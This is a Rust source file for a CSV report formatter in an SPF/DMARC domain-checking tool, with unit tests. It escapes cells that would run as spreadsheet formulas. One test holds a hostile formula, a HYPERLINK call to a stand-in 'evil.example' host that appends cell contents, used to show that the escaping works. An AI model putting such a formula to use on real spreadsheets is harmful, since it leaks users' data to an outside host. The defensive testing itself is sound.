//! `--format csv`: one row per finding, for spreadsheets and the scripts checkdmarc users
//! already feed with CSV.
//!
//! Columns: `domain, status, check, severity, message, fix, evidence`, after a header row.
//! `status` is the domain's (repeated on each of its rows, so a filter on it keeps whole
//! domains); a domain with no findings still has a row (empty `check`), and an invalid input
//! has one row with its error as the message and status `error`. Multi-line evidence stays in
//! one quoted cell. The strings are exact but for one change: DNS text is attacker-controlled,
//! and a spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage
//! return before one) as a formula, so such a cell gets a leading `'` (OWASP's advice for CSV
//! injection), which spreadsheets show as text.

use super::RunFormatter;
use crate::engine::{CheckRun, DomainReport};
use std::borrow::Cow;

/// The header row.
pub const HEADER: [&str; 7] = [
    "domain", "status", "check", "severity", "message", "fix", "evidence",
];

pub struct CsvFormatter;

impl RunFormatter for CsvFormatter {
    fn format(&self, run: &CheckRun) -> String {
        render(run).unwrap_or_else(|e| format!("error: cannot write the CSV report: {e}\n"))
    }
}

fn render(run: &CheckRun) -> Result<String, ::csv::Error> {
    let mut writer = ::csv::Writer::from_writer(Vec::new());
    writer.write_record(HEADER)?;
    for report in &run.domains {
        for row in rows(report) {
            writer.write_record(row.iter().map(|cell| neutralise(cell).into_owned()))?;
        }
    }
    let bytes = writer
        .into_inner()
        .map_err(|e| ::csv::Error::from(e.into_error()))?;
    // Every cell came from a `str`, so the bytes are UTF-8.
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// The rows of one domain, cells in [`HEADER`] order.
pub fn rows(report: &DomainReport) -> Vec<[&str; 7]> {
    let status = report.status.as_str();
    if let Some(error) = &report.error {
        return vec![[&report.domain, status, "", "", error, "", ""]];
    }
    if report.findings.is_empty() {
        return vec![[&report.domain, status, "", "", "", "", ""]];
    }
    report
        .findings
        .iter()
        .map(|f| {
            [
                report.domain.as_str(),
                status,
                f.id.as_str(),
                f.severity.as_str(),
                f.message.as_str(),
                f.fix_text().unwrap_or(""),
                f.evidence.as_str(),
            ]
        })
        .collect()
}

/// A cell a spreadsheet would run as a formula, made text with a leading `'`.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::Summary;
    use crate::finding::{Finding, Severity, Status};

    fn report(domain: &str, findings: Vec<Finding>) -> DomainReport {
        DomainReport {
            domain: domain.into(),
            unicode: None,
            status: Status::of(&findings),
            findings,
            error: None,
        }
    }

    fn parse(text: &str) -> Vec<Vec<String>> {
        ::csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.expect("valid CSV").iter().map(String::from).collect())
            .collect()
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_made_text() {
        let hostile = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
        assert_eq!(neutralise(hostile), format!("'{hostile}"));
        for formula in ["+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert!(neutralise(formula).starts_with('\''), "{formula:?}");
        }
        for plain in ["v=spf1 -all", "example.com", "", "'quoted"] {
            assert_eq!(neutralise(plain), plain);
        }

        // Through the formatter: a TXT-like message and evidence from a hostile record.
        let finding = Finding::new("spf.syntax", Severity::Fail, hostile)
            .evidence("@import\nv=spf1 -all")
            .fix("-publish one record");
        let run = CheckRun {
            domains: vec![report("evil.test", vec![finding])],
            summary: Summary::default(),
        };
        let rows = parse(&CsvFormatter.format(&run));
        assert_eq!(rows[1][4], format!("'{hostile}"));
        assert_eq!(rows[1][5], "'-publish one record");
        assert_eq!(rows[1][6], "'@import\nv=spf1 -all");
        assert!(rows.iter().flatten().all(|cell| !cell.starts_with('=')));
    }

    #[test]
    fn a_row_per_finding_one_for_a_clean_domain_and_one_for_bad_input() {
        let findings = vec![
            Finding::new("spf.ok", Severity::Pass, "SPF record found")
                .evidence("example.com TXT\n\"v=spf1, -all\""),
            Finding::new("dmarc.missing", Severity::Fail, "no DMARC record").fix("publish one"),
        ];
        let invalid = DomainReport {
            domain: "https://x".into(),
            unicode: None,
            status: Status::Error,
            findings: Vec::new(),
            error: Some("argument 1: `https://x` is not a valid domain name".into()),
        };
        let run = CheckRun {
            domains: vec![
                report("example.com", findings),
                report("empty.test", Vec::new()),
                invalid,
            ],
            summary: Summary::default(),
        };
        let text = CsvFormatter.format(&run);
        let rows = parse(&text);
        assert_eq!(rows.len(), 5, "{text}");
        assert_eq!(rows[0], HEADER);
        assert_eq!(
            rows[1],
            [
                "example.com",
                "fail",
                "spf.ok",
                "pass",
                "SPF record found",
                "",
                "example.com TXT\n\"v=spf1, -all\""
            ]
        );
        assert_eq!(rows[2][2..4], ["dmarc.missing", "fail"]);
        assert_eq!(rows[2][5], "publish one");
        assert_eq!(rows[3], ["empty.test", "pass", "", "", "", "", ""]);
        assert_eq!(rows[4][..3], ["https://x", "error", ""]);
        assert!(rows[4][4].contains("is not a valid domain name"));
        // The multi-line evidence is one quoted cell, not extra lines of rows.
        assert!(
            text.contains("\"example.com TXT\n\"\"v=spf1, -all\"\"\""),
            "{text}"
        );
    }
}
